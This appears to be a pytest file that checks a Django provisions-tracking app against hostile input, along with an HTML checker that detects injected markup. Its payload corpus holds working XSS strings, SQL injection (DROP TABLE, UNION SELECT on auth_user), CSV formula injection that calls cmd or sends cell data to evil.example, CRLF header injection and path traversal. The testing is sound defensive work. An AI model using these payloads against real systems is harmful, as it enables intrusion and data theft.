"""Hostile input: a corpus of nasty strings, written into every text field people can write and
read back through every page, export, feed and admin screen.

What must hold, whatever the input:
- no response is a server error;
- no HTML response carries markup that came from the data: no element or attribute a payload
  introduced (no `on*` attributes at all, no script but the site's own, no javascript:/data:
  addresses, no htmx attributes outside the site's own forms), and raw payload markup never
  appears unescaped;
- a value the database or a length limit cannot take is refused cleanly (a form error or an API
  400), never half-written and never a 500. PostgreSQL refuses NUL in text; so that SQLite runs
  catch what would fail there, every query here runs through a wrapper that refuses a NUL
  parameter the way PostgreSQL does.

The pages that read stored data share one world, built once for the module, with every payload
in every field; each page is fetched once and checked for all the payloads on it, so the number
of checks is (payload x field x screen) while the number of requests is not. The writes and the
query strings go payload by payload against a small world of their own.
"""

import base64
import csv
import datetime
import io
import json
import re
import xml.etree.ElementTree as ET
from collections import Counter
from html.parser import HTMLParser
from urllib.parse import quote, urlsplit

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import DataError, connection, models, transaction
from django.urls import reverse
from rest_framework.test import APIClient

from provisions import services
from provisions.api.renderers import spreadsheet_safe
from provisions.forms import CompareFilterForm
from provisions.models import (
    Assessment,
    Citation,
    Correspondence,
    Party,
    Plan,
    Provision,
    Source,
    Tag,
    Theme,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("costly_rate_unlimited")]

# --- The corpus --------------------------------------------------------------------------------


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


PAYLOADS: dict[str, str] = {
    # script elements, plain and disguised
    "script": '<script>alert("hx-1")</script>',
    "script-upper-src": '<SCRIPT SRC="https://evil.example/hx.js"></SCRIPT>',
    "script-split": "<scr<script>ipt>alert('hx-3')</scr</script>ipt>",
    "close-title": "</title><script>alert(4)</script>",
    "close-textarea": "</textarea><script>alert(5)</script>",
    "close-script": "</script><script>alert(6)</script>",
    "script-unclosed": "<script>alert(7)//",
    "comment-break": "--><script>alert(8)</script><!--",
    "json-break": '"}]</script><script>alert(9)</script>',
    # event-handler attributes
    "img-onerror": "<img src=x onerror=alert(10)>",
    "body-onload": '<body onload="alert(11)">',
    "a-onmouseover": '<a href="#" onmouseover="alert(12)">hover me</a>',
    "autofocus-onfocus": "<input autofocus onfocus=alert(13)>",
    "details-ontoggle": '<details open ontoggle="alert(14)"><summary>x</summary></details>',
    "source-onerror": '<video><source onerror="alert(15)"></video>',
    "marquee-onstart": "<marquee onstart=alert(16)>scrolling</marquee>",
    "slash-separators": '<img/src="x"/onerror=alert(17)>',
    "newlines-in-tag": "<img\nsrc=x\nonerror=alert(18)>",
    "backtick-attrs": "<img src=`x` onerror=`alert(19)`>",
    # javascript: and data: addresses
    "js-url": "javascript:alert(20)",
    "js-url-mixed-case": "  JaVaScRiPt:alert(21)",
    "js-url-tab": "java\tscript:alert(22)",
    "js-url-entity": "&#106;avascript:alert(23)",
    "data-url": "data:text/html;base64," + _b64("<script>alert(24)</script>"),
    "vbscript-url": "vbscript:msgbox(25)",
    "a-js-href": '<a href="javascript:alert(26)">read the full text</a>',
    "iframe-data": '<iframe src="data:text/html,<script>alert(27)</script>"></iframe>',
    "form-action": '<form action="javascript:alert(28)"><button>send</button></form>',
    "object-data": '<object data="javascript:alert(29)"></object>',
    "broken-ipv6-url": 'https://[evil.example/"><script>alert(30)</script>',
    # SVG and MathML
    "svg-onload": "<svg onload=alert(31)>",
    "svg-script": "<svg><script>alert(32)</script></svg>",
    "svg-xlink": '<svg><a xlink:href="javascript:alert(33)"><text x="0" y="9">go</text></a></svg>',
    "svg-animate": "<svg><animate onbegin=alert(34) attributeName=x dur=1s>",
    "math-confusion": "<math><mtext><table><mglyph><style><img src=x onerror=alert(35)>",
    # attribute breakouts and broken markup
    "dq-breakout": '"><img src=x onerror=alert(36)>',
    "sq-breakout": "'><svg onload=alert(37)>",
    "dq-attribute": '" onmouseover="alert(38)" x="',
    "sq-attribute": "' autofocus onfocus='alert(39)' x='",
    "unclosed-tags": "<b><i><u>never closed",
    "stray-closers": "</p></li></ol></section></main></body></html>",
    "open-comment": "<!-- everything after this is hidden",
    "cdata": "<![CDATA[<script>alert(43)</script>]]>",
    "base-tag": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(45)">',
    "plaintext": "<plaintext>",
    "unterminated-attr": '<div class="x" title="never ends',
    "htmx-attrs": '<div hx-get="/admin/logout/" hx-trigger="load" hx-target="body">',
    "htmx-on": '<button hx-on:click="alert(49)">x</button>',
    # template syntax (must stay text: nothing renders stored text as a template)
    "django-vars": "{{ request.user.password }}{{ settings.SECRET_KEY }}",
    "django-tags": "{% debug %}{% load log %}{% get_admin_log 10 as log %}",
    "ssti": "{{ 7*7 }}{{ ''.__class__.__mro__ }}",
    "js-templates": "${alert(53)} #{7*7} <%= 7*7 %>",
    "angular": "{{constructor.constructor('alert(54)')()}}",
    "csrf-tag": '{% csrf_token %}{% now "Y" %}',
    # CSS
    "css-expression": '<div style="width: expression(alert(56))">wide</div>',
    "style-import": '<style>@import url("javascript:alert(57)");</style>',
    "style-breakout": "</style><script>alert(58)</script>",
    "css-binding": "x{-moz-binding:url(https://evil.example/xbl#x)}",
    # Unicode
    "rlo": "\u202eexe.txt\u202c",
    "bidi-isolates": "\u2066\u2067\u2068isolated\u2069 \u200fmarks\u200e",
    "zero-width": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "fullwidth-script": "\uff1cscript\uff1ealert(63)\uff1c/script\uff1e",
    "zalgo": "Z\u0335\u0321\u0322a\u0337l\u0338g\u0334o\u0336",
    "emoji-zwj": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308",
    "line-separators": "line\u2028separator\u2029paragraph\u0085next",
    "homoglyphs": "Ukr\u0430ine \u0440eace",
    "noncharacters": "\ufffe\uffff\U0010ffff",
    "astral": "\U0001d54f\U0001d530 \U0001f4a9",
    # control characters (NUL is for refusal only: PostgreSQL cannot store it)
    "nul": "before\x00after",
    "nul-script": "\x00<script>alert(71)</script>",
    "c0-controls": "c0:" + "".join(chr(c) for c in range(1, 32) if chr(c) not in "\t\n\r"),
    "ansi-escape": "\x1b[31mred\x1b[0m\x07",
    "del-c1": "del\x7f c1\x80\x9f",
    "crlf-header": "one\r\nSet-Cookie: pwned=1\r\n\r\n<script>alert(75)</script>",
    "match-markers": "\x02<script>alert(76)</script>\x03",
    "bare-cr": "row one\rrow two | a | b",
    # SQL
    "sql-or": "' OR 1=1 --",
    "sql-drop": "'; DROP TABLE provisions_provision; --",
    "sql-union": '" UNION SELECT username, password FROM auth_user --',
    "sql-like": "%_%\\%'",
    "sql-sleep": "1); SELECT pg_sleep(5); --",
    # spreadsheet formulas
    "csv-equals": '=HYPERLINK("https://evil.example/?d="&A1,"open")',
    "csv-plus": "+SUM(1,2)",
    "csv-minus": "-2+3+cmd|' /C calc'!A0",
    "csv-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv-tab": "\t=1+1",
    # encodings and look-alikes of markup
    "pre-escaped": "&lt;script&gt;alert(88)&lt;/script&gt;",
    "numeric-entities": "&#60;script&#62;alert(89)&#60;/script&#62;",
    "percent-encoded": "%3Cscript%3Ealert(90)%3C%2Fscript%3E",
    "markdown-link": '[click](javascript:alert(91)) ![i](x" onerror="alert(91))',
    "json-like": '{"text": "</script>", "__proto__": {"admin": true}}',
    "path-traversal": "../../../../etc/passwd",
    # sizes
    "long-word": "A" * 5000,
    "many-lines": "\n".join(f"line {n} <i>{n}</i>" for n in range(400)),
    "whitespace-only": "   \t  ",
}
assert len(PAYLOADS) >= 50

# One or two of each kind, for the screens where each payload costs a page of its own
SAMPLE = ["script", "img-onerror", "js-url", "svg-onload", "dq-breakout", "sq-attribute",
          "htmx-attrs", "django-tags", "css-expression", "rlo", "zero-width", "nul",
          "nul-script", "c0-controls", "crlf-header", "match-markers", "sql-drop", "sql-like",
          "csv-equals", "percent-encoded", "long-word", "many-lines", "whitespace-only"]  # fmt: skip

NUL_FREE = {name: value for name, value in PAYLOADS.items() if "\x00" not in value}
SEED = list(NUL_FREE.items())  # what the stored world holds: any database takes these
N = len(SEED)
DAY0 = datetime.date(2025, 1, 1)
ONE_MB = ("<script>alert(1)</script> lorem ipsum " * 40_000)[:1_000_000]

# Markup-bearing payloads must never reach a page as written; these are the pieces to look for.
RAW_NEVER = ["<script>alert(", "<img src=x onerror", "<svg onload", 'onmouseover="alert']

# --- Checking HTML -----------------------------------------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster",
                  "background", "srcset", "lowsrc", "dynsrc", "codebase", "ping"}  # fmt: skip
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
# elements the site's own pages never use: from data they can only be live markup
FOREIGN_TAGS = {"svg", "math", "iframe", "frame", "frameset", "object", "embed", "base",
                "marquee", "plaintext", "xmp", "mglyph", "mtext", "video", "audio", "source",
                "applet", "animate"}  # fmt: skip
HTMX_ELEMENTS = {"form", "body"}  # where the templates put hx-* attributes


class Markup(HTMLParser):
    """Elements, attributes, text and script bodies of one page, as a browser would parse them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.raw: dict[str, list[str]] = {"script": [], "style": []}
        self.comments: list[str] = []
        self._open_raw = None

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        if tag in self.raw:
            self._open_raw = tag
            self.raw[tag].append("")

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        if tag == self._open_raw:
            self._open_raw = None

    def handle_data(self, data):
        if self._open_raw:
            self.raw[self._open_raw][-1] += data
        else:
            self.text.append(data)

    def handle_comment(self, data):
        self.comments.append(data)

    @property
    def readable(self) -> str:
        """Everything a reader or a form could get back: text and attribute values."""
        values = (v for _, attrs in self.elements for v in attrs.values() if v)
        return "".join(self.text) + "\x1f" + "\x1f".join(values)


def _scheme_of(value: str) -> str:
    """The scheme a browser would see: it ignores whitespace and control characters in it."""
    return re.sub(r"[\x00-\x20\x7f]+", "", value).lower()


def _admin_icon(tag: str, attrs: dict) -> bool:
    """The admin's own inline SVG icons (its theme switch): hidden from screen readers or the
    sprite sheet of symbols, never with a script or handler."""
    return tag == "svg" and (
        attrs.get("aria-hidden") == "true" or attrs.get("class") == "base-svgs"
    )


def markup_problems(body: str) -> list[str]:
    """Live markup that did not come from the templates."""
    page = Markup()
    page.feed(body)
    page.close()
    problems = []
    for tag, attrs in page.elements:
        if tag in FOREIGN_TAGS and not _admin_icon(tag, attrs):
            problems.append(f"<{tag}> element")
        for name, value in attrs.items():
            value = value or ""
            if name.startswith("on"):
                problems.append(f"<{tag} {name}=…> event handler")
            # the templates' own hx-history="false" (Back refetches the page; harmless anywhere)
            own = name == "hx-history" and value == "false"
            if (
                name.startswith(("hx-", "data-hx-"))
                and not own
                and (tag not in HTMX_ELEMENTS or name.startswith(("hx-on", "data-hx-on")))
            ):
                problems.append(f"<{tag} {name}> htmx attribute")
            if name in URL_ATTRIBUTES and _scheme_of(value).startswith(BAD_SCHEMES):
                problems.append(f"<{tag} {name}={value[:40]!r}> dangerous address")
            if name == "style" and re.search(r"expression\(|javascript:|url\(", value, re.I):
                problems.append(f"<{tag} style={value[:40]!r}>")
            if name in ("srcdoc", "formaction") or (
                name == "xlink:href" and not value.startswith("#")
            ):
                problems.append(f"<{tag} {name}>")
        own_script = (attrs.get("src") or "").startswith("/")
        if tag == "script" and not own_script and attrs.get("type") != "application/json":
            problems.append(f"inline or foreign script {attrs}")
        if (
            tag in ("img", "input", "link")
            and attrs.get("src")
            and not attrs["src"].startswith("/")
        ):
            problems.append(f"<{tag} src={attrs['src'][:40]!r}> foreign resource")
        if tag == "meta" and (attrs.get("http-equiv") or "").lower() == "refresh":
            problems.append("<meta http-equiv>")
        if tag == "form" and (attrs.get("action") or "").strip().lower().startswith(BAD_SCHEMES):
            problems.append("form posting to a script")
    for body_text in page.raw["script"]:
        if body_text.strip():
            try:
                json.loads(body_text)
            except ValueError:
                problems.append(f"inline script body {body_text[:60]!r}")
    for css in page.raw["style"]:
        if re.search(r"alert|javascript:|expression\(|binding", css, re.I):
            problems.append(f"style element from data {css[:60]!r}")
    for comment in page.comments:
        if re.search(r"alert|script|everything after", comment, re.I):
            problems.append(f"comment from data {comment[:60]!r}")
    lowered = body.lower()
    problems += [f"raw {raw!r} in the page" for raw in RAW_NEVER if raw.lower() in lowered]
    return problems


# --- Bookkeeping ---------------------------------------------------------------------------


class Audit:
    """Collects every failure of one test, so one run reports them all; counts the checks."""

    checks = Counter()

    def __init__(self, name: str):
        self.name = name
        self.failures: list[str] = []

    def __repr__(self):
        return f"<Audit {self.name}: {len(self.failures)} failure(s)>"

    def fail(self, where: str, what: str):
        self.failures.append(f"{where}: {what}")

    def count(self, kind: str, n: int = 1):
        Audit.checks[kind] += n

    def get(self, client, url: str, data=None, **extra):
        return self.call(client, "get", url, data, **extra)

    def call(self, client, method: str, url: str, data=None, **extra):
        """The response, or None after recording the exception a 500 would have hidden."""
        try:
            return getattr(client, method)(url, data, **extra)
        except Exception as error:  # recorded as a failure, with its type
            self.fail(f"{method.upper()} {url}", f"server error {type(error).__name__}: {error}")
            return None

    def html(self, where: str, response, expect: dict[str, list[str]] | None = None):
        """A page: not a 500, no live markup from data, and each expected value readable in it
        (field -> values), so the check is known to have seen the payloads."""
        if not self.status(where, response):
            return
        body = response.content.decode()
        for problem in markup_problems(body):
            self.fail(where, problem)
        if expect:
            page = Markup()
            page.feed(body)
            page.close()
            readable = _normalise(page.readable)
            for field, values in expect.items():
                for value in values:
                    self.count("payload x field x screen (HTML)")
                    if _normalise(value) not in readable:
                        self.fail(where, f"{field} value {value[:40]!r} not shown (escaped) at all")
        self.count("HTML pages checked")

    def status(self, where: str, response, allowed=(200,)) -> bool:
        if response is None:
            return False
        if response.status_code >= 500 or response.status_code not in allowed:
            self.fail(where, f"status {response.status_code}")
            return False
        return True

    def done(self):
        assert not self.failures, f"{len(self.failures)} failure(s):\n" + "\n".join(
            self.failures[:80]
        )


def _normalise(text: str) -> str:
    """Compare as a browser shows text: CR-LF and CR become LF, the rest as it is."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


@pytest.fixture(autouse=True)
def _refuse_nul_like_postgresql():
    """SQLite stores NUL in text, PostgreSQL refuses it with a DataError (a 500 if nothing
    catches it first). Refuse it here too, so every backend sees the same failure."""

    def refuse(execute, sql, params, many, context):
        rows = params if many else [params]
        for row in rows or ():
            values = row.values() if isinstance(row, dict) else row or ()
            if any(isinstance(v, str) and "\x00" in v for v in values):
                raise DataError("A string literal cannot contain NUL (0x00) characters.")
        return execute(sql, params, many, context)

    with connection.execute_wrapper(refuse):
        yield


@pytest.fixture(scope="module", autouse=True)
def _print_counts():
    yield
    if Audit.checks:
        print("\nhostile input checks:", dict(Audit.checks))


# --- Query strings ---------------------------------------------------------------------------

MODELS = [Plan, Provision, Source, Citation, Assessment, Correspondence, Theme, Tag, Party]


def _admin(model, view: str, *args) -> str:
    return reverse(f"admin:provisions_{model._meta.model_name}_{view}", args=args)


@pytest.fixture
def small_world():
    """Two small versions, linked, for pages whose query string is the hostile part."""
    theme = Theme.objects.create(slug="armed-forces", name="Armed forces")
    tag = Tag.objects.create(slug="contested", name="Contested")
    left = Plan.objects.create(
        slug="small-left",
        title="Left",
        short_name="Left",
        presented_on=DAY0,
        status="proposal",
        completeness="full_text",
    )
    right = Plan.objects.create(slug="small-right", title="Right", short_name="Right",
                                presented_on=DAY0 + datetime.timedelta(1), status="proposal",
                                completeness="full_text", based_on=left)  # fmt: skip
    cap = Provision.objects.create(plan=left, number=1, position=1, text="Capped at 600,000.")
    new_cap = Provision.objects.create(plan=right, number=1, position=1, text="Capped at 800,000.")
    cap.themes.add(theme)
    Assessment.objects.create(provision=cap, tag=tag, rationale="Disputed.")
    Correspondence.objects.create(earlier=cap, later=new_cap, relation="modified", note="Raised.")
    return {"left": left, "right": right, "cap": cap}


QUERY_PAYLOADS = [*PAYLOADS.items(), ("1MB", ONE_MB)]


def test_query_strings_carrying_payloads(client, small_world):
    """The search (as the page and its htmx partial) and the comparison's filters with every
    payload; the partials, the exports, the other parameters and the paths with a sample."""
    audit = Audit("query strings")
    left, right, cap = small_world["left"], small_world["right"], small_world["cap"]
    here = reverse("provisions:compare", args=[left.slug, right.slug])
    pick = reverse("provisions:compare-pick")
    search = reverse("provisions:search")
    for name, value in QUERY_PAYLOADS:
        long = len(value) > 2000
        query = {"theme": value, "tag": value, "relation": value, "layout": value,
                 "row": value, "changes_only": value, value[:50]: value}  # fmt: skip
        sampled = name in SAMPLE
        for headers in ({}, {"HX-Request": "true"}):
            kind = f"<{name}>{' (htmx)' if headers else ''}"
            if sampled or not headers:
                audit.html(f"{here}?{kind}", audit.get(client, here, query, headers=headers))
            response = audit.get(client, search, {"q": value}, headers=headers)
            audit.html(f"{search}?q={kind}", response)
            if (
                response is not None
                and "\x00" in value
                and "Null characters" not in str(response.content)
            ):
                audit.fail(f"{search}?q={kind}", "NUL not refused with a form error")
            # the pickers: the rest of the query is carried to the comparison, re-encoded
            if headers and not sampled:
                continue
            response = audit.get(client, pick, {"left": left.slug, "right": right.slug, **query},
                                 headers=headers)  # fmt: skip
            if headers:
                audit.html(f"{pick}?…{kind}", response)
                push = response and response.get("HX-Push-Url", "")
                if push and (re.search(r"[\s<>\"']", push) or urlsplit(push).netloc):
                    audit.fail(f"{pick}?…{kind}", f"unsafe HX-Push-Url {push[:80]!r}")
            elif audit.status(f"{pick}?…{kind}", response, allowed=(302, 400) if long else (302,)):
                location = response.get("Location", "")
                if re.search(r"[\s<>\"']", location) or urlsplit(location).netloc:
                    audit.fail(f"{pick}?…{kind}", f"unsafe redirect {location[:80]!r}")
        if not sampled:
            continue
        for fmt in ("csv", "md"):
            export = reverse("provisions:compare-export", args=[left.slug, right.slug, fmt])
            # a file is all or nothing: a filter it cannot apply refuses it (never every row)
            allowed = (200,) if CompareFilterForm(query).is_valid() else (400,)
            audit.status(f"{export}?<{name}>", audit.get(client, export, query), allowed=allowed)
        # the pickers themselves, refused with the form's errors
        response = audit.get(client, pick, {"left": value, "right": value})
        if audit.status(f"{pick}?left=<{name}>", response, allowed=(400,)):
            audit.html(f"{pick}?left=<{name}>", _as_ok(response))
        audit.html(f"/?page=<{name}>", audit.get(client, "/", {"page": value}))
        response = audit.get(client, reverse("provisions:scorecard"), {"baseline": value})
        if audit.status(f"/scorecard/?baseline=<{name}>", response, allowed=(200, 404)):
            audit.html(f"/scorecard/?baseline=<{name}>", _as_ok(response))
        url = cap.get_absolute_url()
        audit.html(f"{url}?baseline=<{name}>", audit.get(client, url, {"baseline": value}))
        url = left.get_absolute_url()
        for headers in ({}, {"HX-Request": "true"}):
            audit.html(f"{url}?theme=<{name}>",
                       audit.get(client, url, {"theme": value, "tag": value}, headers=headers))  # fmt: skip
        # and in the path, where a page or the API looks it up by slug or label
        for path in (f"/plans/{quote(value[:200], safe='')}/",
                     f"/plans/{left.slug}/{quote(value[:200], safe='')}/",
                     f"/compare/{left.slug}/{quote(value[:200], safe='')}/"):  # fmt: skip
            response = audit.get(client, path)
            if audit.status(f"{path[:40]}<{name}>", response, allowed=(404,)):
                audit.html(f"{path[:40]}<{name}>", _as_ok(response))

    # query strings that are not UTF-8 at all
    for raw in ("q=%ff%fe%00", "q=%ED%A0%80", "q=%C0%BC", "theme=%ff&tag=%00&row=%ED%A0%80"):
        for url in (search, here, "/", left.get_absolute_url(), pick):
            response = audit.get(client, f"{url}?{raw}")
            if audit.status(f"{url}?{raw}", response, allowed=(200, 302, 400)):
                audit.html(f"{url}?{raw}", _as_ok(response))
    audit.done()


def _as_ok(response):
    """Check a refusal page like any other page."""
    response.status_code = 200
    return response


ADMIN_SEARCH_PAYLOADS = ["script", "sql-or", "sql-like", "nul", "c0-controls", "rlo",
                         "percent-encoded", "long-word", "whitespace-only"]  # fmt: skip


def test_admin_search_and_filters_with_payloads(editor_client, small_world):
    audit = Audit("admin search")
    for name in ADMIN_SEARCH_PAYLOADS:
        value = PAYLOADS[name]
        for model in MODELS:
            url = _admin(model, "changelist")
            response = audit.get(editor_client, url, {"q": value})
            if audit.status(f"{url}?q=<{name}>", response, allowed=(200, 302)):
                audit.html(f"{url}?q=<{name}>", response)
        url = _admin(Provision, "changelist")
        response = audit.get(editor_client, url, {"plan__id__exact": value, "cited": value})
        audit.status(f"{url}?filters=<{name}>", response, allowed=(200, 302))
    audit.done()


# --- Writing: the API --------------------------------------------------------------------------

WRITE_PAYLOADS = [*PAYLOADS.items(), ("lone-surrogate", "half of a pair: \ud800")]


def _fit(value: str, model, field: str) -> str:
    """Short codes (a source's code, a language) get the payload cut to fit, so the rest of the
    write is not refused for them; every longer field gets it whole."""
    limit = model._meta.get_field(field).max_length
    return value[:limit] if limit and limit < 50 else value


def _expected_refusals(model, data: dict) -> set[str]:
    """The fields a write must refuse: NUL or a lone surrogate anywhere, too long, or blank
    where required (after the whitespace trim forms and the API apply)."""
    refused = set()
    for name, value in data.items():
        if not isinstance(value, str):
            continue
        field = model._meta.get_field(name)
        unstorable = "\x00" in value or re.search("[\ud800-\udfff]", value)
        too_long = field.max_length and len(value.strip()) > field.max_length
        if unstorable or too_long or (not value.strip() and not field.blank):
            refused.add(name)
    return refused


def _check_write(audit, where, response, model, data):
    """201/200 with every value stored as sent (trimmed), or a 400 naming exactly the fields
    that had to be refused; never anything else."""
    if response is None:
        return None
    refused = _expected_refusals(model, data)
    body = response.json() if response.get("Content-Type") == "application/json" else {}
    if response.status_code >= 500:
        audit.fail(where, f"status {response.status_code}")
    elif refused:
        named = set(body) if isinstance(body, dict) else set()
        if response.status_code != 400 or not refused <= named:
            audit.fail(where, f"status {response.status_code}, refused {sorted(named)}, "
                              f"expected a 400 naming {sorted(refused)}")  # fmt: skip
        audit.count("refusals (writes)")
    elif response.status_code not in (200, 201):
        audit.fail(where, f"status {response.status_code}: {str(body)[:200]}")
    else:
        return body
    return None


def _stored_as_sent(audit, where, obj, data: dict, textarea: bool = False):
    obj.refresh_from_db()
    for name, value in data.items():
        if isinstance(value, str):
            audit.count("payload x field (writes)")
            if textarea and isinstance(obj._meta.get_field(name), models.TextField):
                # the admin stores a textarea's line breaks (CRLF from browsers) as LF
                value = value.replace("\r\n", "\n").replace("\r", "\n")
            if getattr(obj, name) != value.strip():
                audit.fail(where, f"{name} stored as {getattr(obj, name)[:40]!r}")


def test_api_writes_store_exactly_or_refuse_cleanly(small_world, editor):
    """Every writable text field of every endpoint, each payload, as an editor."""
    audit = Audit("API writes")
    api = APIClient()
    api.force_authenticate(editor)
    left = small_world["left"]
    new_cap = small_world["right"].provisions.get()
    source = Source.objects.create(publisher="Reuters", title="Plan text", url="https://r.example/1",
                                   published_on=DAY0, language="en", coverage="full_text",
                                   reliability="wire")  # fmt: skip
    for i, (name, value) in enumerate(WRITE_PAYLOADS):
        target = Provision.objects.create(plan=left, number=500 + i, position=500 + i, text="T")
        writes = [
            (Plan, "/api/plans/", {"title": value, "short_name": value, "summary": value,
             "note": value}, {"slug": f"w-{i}", "presented_on": "2026-01-01",
             "status": "proposal", "completeness": "partial"}),
            (Source, "/api/sources/", {"publisher": value, "title": value, "author": value,
             "note": value, "code": f"{i}{value}"[:12],
             "language": _fit(value, Source, "language")},
             {"url": f"https://w.example/{i}/{quote(value[:100], errors='replace')}", "published_on": "2026-01-01",
              "coverage": "summary", "reliability": "press"}),
            (Provision, "/api/provisions/", {"text": value, "note": value, "summary": value},
             {"plan": left.slug, "number": 100 + i, "position": 100 + i}),
            (Citation, "/api/citations/", {"locator": value, "excerpt": value, "reading": value,
             "reading_translation": value, "note": value},
             {"source": source.pk, "provision": target.pk, "plan": None,
              "reading_language": "uk"}),
            (Assessment, "/api/assessments/", {"rationale": value},
             {"provision": target.pk, "tag": "contested"}),
            (Correspondence, "/api/correspondences/", {"note": value},
             {"earlier": target.pk, "later": new_cap.pk, "relation": "reworded"}),
            (Theme, "/api/themes/", {"name": value, "description": value}, {"slug": f"wt-{i}"}),
            (Tag, "/api/tags/", {"name": value, "description": value},
             {"slug": f"wg-{i}", "colour": "#123456"}),
            (Party, "/api/parties/", {"name": value}, {"slug": f"wp-{i}", "kind": "bloc"}),
        ]  # fmt: skip
        for model, url, texts, rest in writes:
            where = f"POST {url} <{name}>"
            response = audit.call(api, "post", url, _json({**texts, **rest}), **JSON)
            body = _check_write(audit, where, response, model, texts)
            if body is None:
                continue
            obj = model.objects.get(**_lookup(model, body))
            _stored_as_sent(audit, where, obj, texts)
            if model is Provision:  # and an edit of the same point, with its revision
                edit = {"text": f"{value} (edited)", "note": value}
                response = audit.call(api, "patch", f"/api/plans/{left.slug}/provisions/{obj.label}/",
                                      _json(edit), **JSON, HTTP_IF_MATCH=f'"{obj.revision}"')  # fmt: skip
                if _check_write(audit, f"PATCH provision <{name}>", response, model, edit):
                    _stored_as_sent(audit, f"PATCH provision <{name}>", obj, edit)
        # addresses and colours are checked, not just stored: a payload is never one
        for url, data in (("/api/sources/", {"url": value, "archived_url": value}),
                          ("/api/tags/", {"colour": value})):  # fmt: skip
            base = {
                "publisher": "P",
                "title": "T",
                "published_on": "2026-01-01",
                "language": "en",
                "coverage": "summary",
                "reliability": "press",
                "url": f"https://u.example/{i}",
            }
            base = base if "sources" in url else {"slug": f"wc-{i}", "name": "N"}
            response = audit.call(api, "post", url, _json({**base, **data}), **JSON)
            if response is not None and response.status_code != 400:
                audit.fail(
                    f"POST {url} <{name}> as address/colour", f"status {response.status_code}"
                )
    audit.done()


JSON = {"content_type": "application/json"}


def _json(data: dict) -> str:
    """JSON with every non-ASCII character escaped, so a lone surrogate can be sent at all."""
    return json.dumps(data)


def _lookup(model, body: dict) -> dict:
    if model in (Plan, Theme, Tag, Party):
        return {"slug": body["slug"]}
    return {"pk": body["id"]}


# --- Writing: the admin ------------------------------------------------------------------------

# POSTed through the admin's pages too (the rest only through its forms, which are the same)
ADMIN_HTTP = ["script", "dq-breakout", "sq-attribute", "nul", "nul-script", "long-word",
              "c0-controls", "rlo", "whitespace-only", "htmx-attrs", "sql-drop", "crlf-header",
              "django-tags", "csv-equals", "many-lines"]  # fmt: skip


def _admin_writes(world, i: int, value: str) -> list[tuple]:
    """(model, instance or None, text fields, other fields) for each admin form."""
    left, target, new_cap, source, tag = world
    day = "2026-02-01"
    return [
        (Plan, None, {"title": value, "short_name": value, "summary": value, "note": value},
         {"slug": f"a-{i}", "presented_on": day, "status": "proposal", "completeness": "partial",
          "numbered": "on"}),
        (Provision, target, {"text": value, "note": value, "summary": value},
         {"plan": left.pk, "number": target.number, "position": target.position,
          "wording": "verbatim", "label_confirmed": "on", "base_revision": target.revision}),
        (Source, None, {"publisher": value, "title": value, "author": value, "note": value,
                        "code": f"a{i}{value}"[:12], "language": value[:8]},
         {"url": f"https://a.example/{i}", "published_on": day, "date_precision": "month",
          "coverage": "summary", "reliability": "press"}),
        (Citation, None, {"locator": value, "excerpt": value, "reading": value,
                          "reading_translation": value, "note": value},
         {"source": source.pk, "provision": target.pk, "reading_language": "uk"}),
        (Assessment, None, {"rationale": value},
         {"provision": target.pk, "tag": tag.pk, "status": "confirmed"}),
        (Correspondence, None, {"note": value},
         {"earlier": target.pk, "later": new_cap.pk, "relation": "merged", "status": "confirmed"}),
        (Theme, None, {"name": value, "description": value}, {"slug": f"at-{i}"}),
        (Tag, None, {"name": value, "description": value}, {"slug": f"ag-{i}", "colour": "#654321"}),
        (Party, None, {"name": value}, {"slug": f"ap-{i}", "kind": "civil_society"}),
    ]  # fmt: skip


class FormInputs(HTMLParser):
    """The hidden inputs of a page's form (the inline formsets' management forms)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.values = {}

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "input" and attrs.get("type") == "hidden" and attrs.get("name"):
            self.values[attrs["name"]] = attrs.get("value") or ""


def _management_forms(client, url: str) -> dict:
    page = FormInputs()
    page.feed(client.get(url).content.decode())
    return {k: v for k, v in page.values.items() if k.endswith("_FORMS")}


def test_admin_forms_store_exactly_or_refuse_cleanly(editor_client, editor, small_world):
    """Every text field of every admin form, each payload: through the form the admin builds
    (and its save), and for a selection of payloads through the page itself."""
    from django.contrib import admin as django_admin
    from django.test import RequestFactory

    audit = Audit("admin writes")
    left = small_world["left"]
    new_cap = small_world["right"].provisions.get()
    source = Source.objects.create(publisher="AP", title="Text", url="https://ap.example/1",
                                   published_on=DAY0, language="en", coverage="full_text",
                                   reliability="wire")  # fmt: skip
    tag = Tag.objects.get(slug="contested")
    request = RequestFactory().post("/admin/")
    request.user = editor
    management = {model: _management_forms(editor_client, _admin(model, "add")) for model in MODELS}
    for i, (name, value) in enumerate(PAYLOADS.items()):
        target = Provision.objects.create(plan=left, number=700 + i, position=700 + i, text="T")
        page_target = Provision.objects.create(
            plan=left, number=800 + i, position=800 + i, text="T"
        )
        for model, instance, texts, rest in _admin_writes(
            (left, target, new_cap, source, tag), i, value
        ):
            where = f"admin {model.__name__} form <{name}>"
            model_admin = django_admin.site._registry[model]
            form_class = model_admin.get_form(request, instance, change=instance is not None)
            form = form_class({**texts, **rest}, instance=instance)
            refused = _expected_refusals(model, texts)
            audit.count("refusals (writes)" if refused else "payload x field (writes)", len(texts))
            if form.is_valid():
                if refused:
                    audit.fail(where, f"accepted, but {sorted(refused)} should be refused")
                    continue
                obj = form.save(commit=False)
                try:
                    model_admin.save_model(request, obj, form, change=instance is not None)
                    form.save_m2m()
                except Exception as error:
                    audit.fail(where, f"save failed: {type(error).__name__}: {error}")
                    continue
